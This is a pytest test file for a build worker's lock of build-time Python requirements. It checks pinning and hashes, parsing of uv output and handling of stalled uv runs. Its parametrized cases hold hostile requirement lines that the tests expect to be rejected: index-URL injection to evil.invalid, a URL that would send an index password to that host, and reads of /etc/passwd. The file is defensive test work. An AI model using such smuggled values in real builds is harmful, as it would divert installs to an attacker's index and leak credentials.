"""What builds need is locked, and what they ask for is names and versions only."""

import json
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from builder.worker.errors import BuildError
from builder.worker.log import Log
from builder.worker.process import Outcome
from builder.worker.request import Target
from builder.worker.resolve import build_lock
from builder.worker.resolve.build_lock import BuildLock, lacking
from builder.worker.resolve.uv import Uv
from tests.worker.hostile import evil, evil_sdist
from tests.worker.samples import offline

if TYPE_CHECKING:
    from tests.worker.conftest import MakeBundle, MakeWheel

SAID = """error: Failed to build `/x/src`
  cause: Failed to resolve requirements from `build-system.requires`
  cause: No solution found when resolving: `setuptools>=40`,
         `wheel ; python_version < '4'`
  cause: Hash-checking is required, but no trusted hash was provided for: `setuptools`
"""
HASH = "sha256:" + "a" * 64


def compiled(source: Path, out: Path) -> Outcome:
    """Resolve every name to one version."""
    names = [line.split(">")[0] for line in source.read_text().splitlines() if line[0] != "-"]
    out.write_text("".join(f"{name}==1.0 \\\n    --hash={HASH}\n" for name in names))
    return Outcome(("uv",), 0, "")


def test_what_a_build_lacks_is_read_from_what_uv_says() -> None:
    assert lacking(Outcome(("uv",), 1, SAID)) == ["setuptools>=40", "wheel ; python_version < '4'"]
    assert lacking(Outcome(("uv",), 0, SAID)) == []
    assert lacking(Outcome(("uv",), 1, "No solution found when resolving: `a`")) == []


def test_the_lock_grows_with_what_is_asked_for(tmp_path: Path) -> None:
    found = BuildLock(tmp_path / "build-lock.txt")

    assert found.extend(["setuptools>=40"], [], compiled)
    assert found.extend(["ninja>=1.8"], ["--no-index"], compiled)

    assert [(pin.name, pin.version, pin.hashes) for pin in found.pins] == [
        ("setuptools", "1.0", (HASH,)),
        ("ninja", "1.0", (HASH,)),
    ]
    assert found.file.read_text() == found.text()
    assert str(found.file) in found.options()


@pytest.mark.parametrize(
    "asked",
    [
        "--index-url http://evil.invalid",
        "x @ https://evil.invalid/${UV_INDEX_LAYER_1_PASSWORD}/x.whl",
        "x @ file:///etc",
        "x\n--index-url http://evil.invalid",
        "-r /etc/passwd",
        "$HOME",
        "",
    ],
)
def test_what_is_no_name_with_versions_is_not_resolved(tmp_path: Path, asked: str) -> None:
    def never(_source: Path, _out: Path) -> Outcome:
        raise AssertionError("it must not be resolved")

    assert not BuildLock(tmp_path / "build-lock.txt").extend([asked], [], never)


def test_what_was_asked_for_in_vain_is_not_asked_for_again(tmp_path: Path) -> None:
    found = BuildLock(tmp_path / "build-lock.txt")

    assert not found.extend(["gone"], [], lambda _source, _out: Outcome(("uv",), 1, "no such"))
    assert not found.extend(["gone"], [], compiled)
    assert found.pins == []


@pytest.mark.slow
def test_build_requirements_are_in_manifest_bill_and_provenance(
    make_bundle: "MakeBundle", make_wheel: "MakeWheel"
) -> None:
    bundle = make_bundle(requirements=["requirements.txt"])
    links = bundle.path / "project" / "wheels"
    make_wheel(links, "backend_helper", requires=("backend_base",))
    make_wheel(links, "backend_base")
    evil_sdist(links, "import backend_helper", requires=["backend-helper>=1"])
    offline(bundle, "evil")

    result = bundle.run()

    assert result.status == 0, result.errors
    needed = result.manifest["build_requirements"]
    names = ["backend-base", "backend-helper"]
    assert [item["name"] for item in needed] == names
    assert all(text.startswith("sha256:") for item in needed for text in item["hashes"])
    bill = json.loads((result.out / "sbom.cdx.json").read_text())
    assert {c["name"] for c in bill["components"] if c.get("scope") == "excluded"} == set(names)
    statement = json.loads((result.out / "provenance.json").read_text())
    definition = statement["predicate"]["buildDefinition"]
    uris = {item.get("uri") for item in definition["resolvedDependencies"]}
    assert {f"pkg:pypi/{name}@1.0" for name in names} <= uris
    assert not [name for name in result.names if "backend_helper" in name]


@pytest.mark.slow
def test_what_a_build_needs_and_has_no_wheel_is_built_too_and_noted(
    make_bundle: "MakeBundle",
) -> None:
    bundle = make_bundle(evil("import onlysource", requires=["onlysource"]), package="libs/evil")
    links = bundle.path / "project" / "wheels"
    evil_sdist(links, "", name="onlysource")

    result = bundle.run(env={"UV_FIND_LINKS": str(links), "UV_NO_INDEX": "1"})

    assert result.status == 0, result.errors
    assert result.output.count("not locked is what this build needs: onlysource\n") == 1
    assert result.output.count("not locked is what this build needs") == 1
    assert result.manifest["build_requirements"] == []


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.invalid/packages",
        "--extra-index-url=http://evil.invalid/packages",
        "--find-links /tmp",
        "-r /etc/passwd",
        "x @ https://evil.invalid/${UV_INDEX_LAYER_1_PASSWORD}/x.whl",
    ],
)
def test_a_lock_that_strangers_code_could_write_says_no_more_than_the_requirements(
    tmp_path: Path, uv_program: Path, line: str
) -> None:
    builds = BuildLock(tmp_path / "build-lock.txt")
    uv = Uv(uv_program, tmp_path, sys.executable, Log(), tmp_path / "uv", builds)
    own = [("--find-links wheels", f"--find-links {tmp_path}"), ("--no-index", "--no-index")]

    uv._check_lock("--find-links wheels\n--no-index\nsix==1.0\n", own)

    with pytest.raises(BuildError, match="does not come of the requirements"):
        uv._check_lock(f"six==1.0\n{line}\n", own)


def test_what_sources_say_that_builds_them_is_found(tmp_path: Path) -> None:
    system = "[build-system]\nrequires = "
    lines = """[\n  "hatchling", # why\n  'hatch-vcs[x]>=1',\n]\n[project]\nrequires = ['not']\n"""
    tree = {
        "uv/sdists-v11/pypi/a/1/x/src/pyproject.toml": system + lines,
        "uv/sdists-v11/pypi/a/1/x/src/tests/pyproject.toml": system + "['no']\n",
        "uv/sdists-v11/pypi/b/1/x/src/setup.py": "",
        "uv/archive-v0/z/setup.py": "",
        "project/libs/c/pyproject.toml": system + "['flit_core <4', 'e @ file:x']",
        "project/libs/d/pyproject.toml": "[tool.x]\n[[[",
    }
    for name, text in tree.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    locked = BuildLock(tmp_path / "lock.txt")
    found = locked.said_by(tmp_path / "uv", tmp_path / "project")
    assert sorted(found) == ["flit_core <4", "hatch-vcs[x]>=1", "hatchling", "setuptools>=40.8.0"]
    assert locked.extend(found, [], compiled)
    assert locked.said_by(tmp_path / "uv", tmp_path / "project") == []


def test_a_uv_that_does_nothing_may_be_waiting_for_an_index_as_long_as_it_would() -> None:
    assert build_lock.patience({}) == 40
    assert build_lock.patience({"UV_HTTP_TIMEOUT": "90"}) == 100
    assert build_lock.patience({"UV_HTTP_TIMEOUT": "soon"}) == 40


STUCK = """import pathlib, sys, time
words = sys.argv[1:]
out = pathlib.Path(words[words.index("-o") + 1]) if "-o" in words else None
if "--build-constraints" in words:
    lock = pathlib.Path(words[words.index("--build-constraints") + 1]).read_text()
    if "setuptools==" not in lock:
        time.sleep(3600)
if out:
    name = "six" if "--build-constraints" in words else "setuptools"
    out.write_text(f"{{name}}==1.0 --hash=sha256:{digest}\\n")
"""


SLOW = """import pathlib, sys, time
words = sys.argv[1:]
assert "--build-constraints" in words
time.sleep(2)
pathlib.Path(words[words.index("-o") + 1]).write_text("six==1.0 --hash=sha256:{digest}\\n")
"""


def made(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> Uv:
    monkeypatch.setattr(build_lock, "IDLE", 0.5)
    program = folder / "bin" / "uv"
    program.parent.mkdir()
    script = folder / "uv.py"
    script.write_text(text.format(digest="a" * 64))
    # No path with a blank can stand behind #!.
    program.write_text(f'#!/bin/sh\nexec "{sys.executable}" "{script}" "$@"\n')
    program.chmod(0o755)
    project = folder / "project"
    project.mkdir()
    (project / "needed.txt").write_text("six\n")
    locked = BuildLock(folder / "build-lock.txt")
    # As some interpreters of distributions are: a program in whose bytes a line names a file.
    python = folder / "bin" / "python"
    python.write_bytes(b"\x7fELF\n-c a\x00b\n--index-url nowhere\n")
    return Uv(program, project, str(python), Log(), folder / "uv", locked)


@pytest.mark.slow
def test_a_uv_that_waits_for_itself_is_ended_and_gets_what_the_sources_ask_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, foreign: Target
) -> None:
    uv = made(STUCK, tmp_path, monkeypatch)
    (uv.cwd / "setup.py").write_text("")
    out = tmp_path / "out.txt"

    outcome = uv.compile([str(uv.cwd / "needed.txt")], foreign, out)

    assert outcome.ok, outcome.output
    assert "six==1.0" in out.read_text()
    assert uv.locked is not None
    assert [pin.name for pin in uv.locked.pins] == ["setuptools"]
    assert "nowhere" not in uv.locked.file.with_suffix(".in").read_text()


@pytest.mark.slow
def test_a_uv_that_waits_for_a_slow_index_still_builds_with_the_lock_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, foreign: Target
) -> None:
    uv = made(SLOW, tmp_path, monkeypatch)
    out = tmp_path / "out.txt"

    outcome = uv.compile([str(uv.cwd / "needed.txt")], foreign, out)

    assert outcome.ok, outcome.output
    assert "six==1.0" in out.read_text()


@pytest.mark.slow
def test_a_uv_that_waits_for_itself_and_no_source_says_why_goes_on_without_the_lock(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    foreign: Target,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("UV_HTTP_TIMEOUT", "1")
    uv = made(STUCK, tmp_path, monkeypatch)
    out = tmp_path / "out.txt"

    outcome = uv.compile([str(uv.cwd / "needed.txt")], foreign, out)

    assert outcome.ok, outcome.output
    assert "not locked is what this build needs: uv does not say what" in capfd.readouterr().out
    assert uv.compile([str(uv.cwd / "needed.txt")], foreign, out).ok
    assert "not locked" not in capfd.readouterr().out


def test_each_thing_that_is_not_locked_is_told_once(tmp_path: Path) -> None:
    found = BuildLock(tmp_path / "build-lock.txt")

    assert found.untold(["a>=1", "b"]) == ["a>=1", "b"]
    assert found.untold(["a>=1", "c"]) == ["c"]
    assert found.untold(["a>=1"]) == []
